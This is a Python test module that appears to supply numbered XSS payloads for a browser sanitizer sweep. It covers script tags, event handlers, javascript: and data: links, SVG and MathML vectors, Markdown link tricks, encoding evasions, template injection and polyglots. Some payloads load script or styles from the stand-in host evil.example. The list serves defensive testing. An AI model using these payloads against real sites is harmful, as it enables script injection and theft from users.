"""Hostile text for the browser XSS sweep.

Each payload carries its own number (`§` below): a dialog that opens says which payload
ran, and the ids and names a payload tries to plant start with `xss` and that number.
Markdown images of other hosts are not here: they are a privacy leak, not script, and
each of those would be counted as a request to another host by every page.
"""

TEMPLATES = (
    # Script tags, whole and broken.
    "<script>alert(§)</script>",
    "<SCRIPT>alert(§)</SCRIPT>",
    "<script src=https://evil.example/§.js></script>",
    "<script/src=data:,alert(§)></script>",
    "<scr<script>ipt>alert(§)</scr</script>ipt>",
    "<<script>alert(§);//<</script>",
    "<script>alert`§`</script>",
    '<script type="module">import("https://evil.example/§.js")</script>',
    "<script>document.write('<img src=https://evil.example/§>')</script>",
    '"><script>alert(§)</script>',
    "'><script>alert(§)</script>",
    "</textarea><script>alert(§)</script>",
    "</title><script>alert(§)</script>",
    "</style><script>alert(§)</script>",
    "</script><script>alert(§)</script>",
    "--><script>alert(§)</script>",
    "]]><script>alert(§)</script>",
    "<!--<script>alert(§)</script>-->",
    "<!-- --!><script>alert(§)</script> -->",
    '<noscript><p title="</noscript><img src=x onerror=alert(§)>">',
    # Event handlers.
    "<img src=x onerror=alert(§)>",
    '<img src=x onerror="alert(§)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=§>",
    "<img/src=x/onerror=alert(§)>",
    "<img src=x oNeRrOr=alert(§)>",
    "<img src=x onerror=&#97;lert(§)>",
    "<img src=x onerror=alert(§)//",
    '<img """><script>alert(§)</script>">',
    "<body onload=alert(§)>",
    '<div onmouseover="alert(§)">hover §</div>',
    "<details open ontoggle=alert(§)>",
    "<input autofocus onfocus=alert(§)>",
    "<select autofocus onfocus=alert(§)>",
    "<textarea autofocus onfocus=alert(§)>",
    "<keygen autofocus onfocus=alert(§)>",
    "<video><source onerror=alert(§)></video>",
    "<audio src=x onerror=alert(§)>",
    "<marquee onstart=alert(§)>",
    "<button onclick=alert(§)>press §</button>",
    "<form><button formaction=javascript:alert(§)>send §</button></form>",
    '<div onanimationstart=alert(§) style="animation:x 1s">§</div>',
    "<x contenteditable autofocus onfocus=alert(§)>§</x>",
    '" onfocus="alert(§)" autofocus="',
    "' onfocus='alert(§)' autofocus='",
    "x onmouseover=alert(§) x=",
    # SVG and MathML.
    "<svg onload=alert(§)>",
    "<svg><script>alert(§)</script></svg>",
    "<svg><animate onbegin=alert(§) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(§)"><text x="20" y="20">§</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(§)</script>"></iframe></foreignObject></svg>',
    "<svg><style><img src=x onerror=alert(§)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(§)>",
    '<math href="javascript:alert(§)">§</math>',
    # Frames, objects, embeds.
    "<iframe src=javascript:alert(§)></iframe>",
    '<iframe srcdoc="<script>alert(§)</script>"></iframe>',
    '<iframe src="https://evil.example/§"></iframe>',
    "<object data=javascript:alert(§)>",
    '<object data="data:text/html,<script>alert(§)</script>">',
    "<embed src=javascript:alert(§)>",
    "<frameset onload=alert(§)>",
    "<portal src=https://evil.example/§>",
    # Style sheets and CSS expressions.
    "<style>body{background:url(https://evil.example/§)}</style>",
    "<style>@import 'https://evil.example/§.css';</style>",
    "<link rel=stylesheet href=https://evil.example/§.css>",
    '<div style="background:url(javascript:alert(§))">§</div>',
    '<div style="width:expression(alert(§))">§</div>',
    '<xss style="x:expression(alert(§))">§</xss>',
    "| a | b |\n|:--|--:|\n| <span style=color:red>§</span> | [x](javascript:alert(§)) |",
    # Other elements that navigate, submit or rebase.
    '<meta http-equiv="refresh" content="0;url=javascript:alert(§)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/§">',
    '<base href="https://evil.example/§/">',
    "<form action=javascript:alert(§)><input type=submit value=§></form>",
    "<isindex action=javascript:alert(§) type=image>",
    "<a href=javascript:alert(§)>x§</a>",
    '<a href="jav&#x09;ascript:alert(§)">x§</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(§)">x§</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x§</a>',
    # DOM clobbering.
    "<a id=xss§ name=xss§>clobber §</a>",
    "<form id=xss§><input name=attributes></form>",
    "<img name=xss§ src=x>",
    # Markdown links.
    "[click §](javascript:alert(§))",
    "[click §](JaVaScRiPt:alert(§))",
    "[click §](  javascript:alert(§))",
    "[click §](jav\tascript:alert(§))",
    "[click §](javascript&#58;alert(§))",
    "[click §](javascript%3Aalert(§))",
    "[click §](&#x6A;avascript:alert(§))",
    "[click §](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click §](vbscript:msgbox(§))",
    "[click §](<javascript:alert(§)>)",
    '[click §](javascript:alert(§) "title")',
    "[ref §][bad§]\n\n[bad§]: javascript:alert(§)",
    '[x §](https://example.org "title\\" onmouseover=\\"alert(§)")',
    "[x §](https://example.org' onmouseover='alert(§))",
    '[x §](#" onmouseover="alert(§))',
    "[<img src=x onerror=alert(§)>](https://example.org)",
    "[x §](https://example.org)<img src=x onerror=alert(§)>",
    # Autolinks and bare addresses.
    "<javascript:alert(§)>",
    "<JAVASCRIPT:alert(§)>",
    "<vbscript:msgbox(§)>",
    "<data:text/html,<script>alert(§)</script>>",
    '<https://example.org/"onmouseover="alert(§)>',
    '<mailto:x@example.org?subject="><script>alert(§)</script>>',
    "https://example.org/§?<script>alert(§)</script>",
    "www.evil.example/§ <script>alert(§)</script>",
    # Markdown images that are not remote.
    "![x §](javascript:alert(§))",
    '![x §" onerror="alert(§)](x.png)',
    '![x §](x.png "onerror=alert(§)")',
    "![<img src=x onerror=alert(§)>](x.png)",
    # Markdown and HTML mixed.
    "**<img src=x onerror=alert(§)>**",
    "*<script>alert(§)</script>*",
    "`<script>alert(§)</script>`",
    "```\n<script>alert(§)</script>\n```",
    "```html\n<img src=x onerror=alert(§)>\n```",
    "> <script>alert(§)</script>",
    "- <svg onload=alert(§)>",
    "1. <iframe src=javascript:alert(§)>",
    "# <img src=x onerror=alert(§)>",
    "<div>\n\n[x §](javascript:alert(§))\n\n</div>",
    "~~<script>alert(§)</script>~~",
    '__<a href="javascript:alert(§)">x §</a>__',
    "Setext §\n===\n<script>alert(§)</script>",
    "    <script>alert(§)</script>",
    # Entities and encodings.
    "&lt;script&gt;alert(§)&lt;/script&gt;",
    "&#60;script&#62;alert(§)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(§)&#x3E;",
    "&amp;lt;script&amp;gt;alert(§)&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ealert(§)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(§)%3C/script%3E",
    "＜script＞alert(§)＜/script＞",
    # Direction overrides and invisible characters.
    "\u202e<script>alert(§)</script>",
    "\u202egnp.§exe\u202c",
    "\u2066<img src=x onerror=alert(§)>\u2069",
    "\u200b<script\u200b>alert(§)</script>",
    "\ufeff<svg onload=alert(§)>",
    # Template and expression injection.
    "{{ 7*7 }} § {{ config }}",
    "{% raw %}{{ '§' }}{% endraw %}",
    "${alert(§)}",
    "{{constructor.constructor('alert(§)')()}}",
    # Polyglots and parser confusion.
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(§) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(§)//>\\x3e",
    "\"'><img src=x onerror=alert(§)>",
    "</p><script>alert(§)</script><p>",
    "<plaintext><script>alert(§)</script>",
    "<xmp><script>alert(§)</script></xmp>",
    "<template><script>alert(§)</script></template>",
    "<![CDATA[<script>alert(§)</script>]]>",
    "<!DOCTYPE html><script>alert(§)</script>",
)

FIRST_NUMBER = 1001  # four digits: no number is a prefix of another one's


def numbered() -> list[str]:
    return [t.replace("§", str(FIRST_NUMBER + i)) for i, t in enumerate(TEMPLATES)]


PAYLOADS = numbered()


def one_line(text: str) -> str:
    """What a single-line field (a title, a heading, a name) keeps of a payload."""
    return " ".join(text.split())


def chunks(payloads: list[str], limit: int) -> list[list[str]]:
    """Consecutive groups whose one-line forms, joined by spaces, fit in `limit` characters."""
    groups: list[list[str]] = [[]]
    for payload in payloads:
        candidate = [*groups[-1], payload]
        if groups[-1] and len(" ".join(map(one_line, candidate))) > limit:
            groups.append([payload])
        else:
            groups[-1] = candidate
    return groups
